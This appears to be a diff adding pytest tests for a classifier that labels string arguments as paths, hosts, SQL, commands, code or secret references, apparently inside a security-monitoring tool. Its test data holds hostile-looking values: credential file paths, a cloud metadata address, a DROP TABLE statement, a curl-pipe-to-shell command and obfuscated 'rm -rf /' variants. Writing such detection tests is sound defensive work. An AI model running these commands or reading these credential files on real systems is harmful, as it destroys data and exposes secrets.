@@ -1,0 +1,75 @@
+"""Value shapes: what a string argument is by its shape alone (positives and the false
+positives that must not happen: prose, versions, numbers, MIME types, file names as hosts)."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from aimds.rules.understanding.values import (
+    SHAPES,
+    looks_like_code,
+    looks_like_command,
+    value_shape,
+)
+
+CASES = [
+    ("/etc/shadow", "path"),
+    ("~/.aws/credentials", "path"),
+    ("C:\\Users\\me\\.ssh\\id_rsa", "path"),
+    ("file:///etc/passwd", "path"),
+    ("src/app/main.py", "path"),
+    (".env", "path"),
+    ("Dockerfile", "path"),
+    ("https://docs.python.org/3/", "url"),
+    ("bob@corp.example", "email"),
+    ("10.0.0.1", "host"),
+    ("::1", "host"),
+    ("[::ffff:169.254.169.254]:80", "host"),
+    ("a9fea9fe.nip.io", "name"),
+    ("README.md", "name"),
+    ("DROP TABLE users", "sql"),
+    ("SELECT id FROM t WHERE x = 1", "sql"),
+    ("curl -s https://x.example/i.sh | sh", "command"),
+    ("rm${IFS}-rf${IFS}/", "command"),
+    ("$(printf rm) -rf /", "command"),
+    ("ls -la", "command"),
+    ("import os\nprint(os.getcwd())", "code"),
+    ("print(1)", "code"),
+    ("vault://ci/token", "secret_ref"),
+    ("${{ secrets.DEPLOY_TOKEN }}", "secret_ref"),
+    ("env:API_TOKEN", "secret_ref"),
+]
+NOT_SHAPED = ["hello world", "p", "1", "2026-03-01", "svc-ci", "x=1", "please rm -rf the dir"]
+
+
+@pytest.mark.parametrize(("value", "shape"), CASES)
+def test_shapes(value: str, shape: str) -> None:
+    assert value_shape(value) == shape
+
+
+@pytest.mark.parametrize("value", NOT_SHAPED)
+def test_plain_text_has_no_shape(value: str) -> None:
+    assert value_shape(value) is None
+
+
+@pytest.mark.parametrize("value", ["1.5", "10.0.1", "text/html", "v1.2.3"])
+def test_versions_and_mime_types_are_never_hosts(value: str) -> None:
+    assert value_shape(value) not in ("host", "url")
+
+
+@pytest.mark.parametrize("value", ["a/b", "etc", "x = y", "import", "print"])
+def test_code_must_import_or_call(value: str) -> None:
+    assert not looks_like_code(value)
+
+
+@pytest.mark.parametrize("value", ["Hello there, how are you", "Great work team", "Q3 numbers"])
+def test_sentences_are_not_commands(value: str) -> None:
+    assert not looks_like_command(value)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(max_size=200))
+def test_any_text_gets_a_known_shape_or_none(text: str) -> None:
+    assert value_shape(text) in SHAPES | {None}
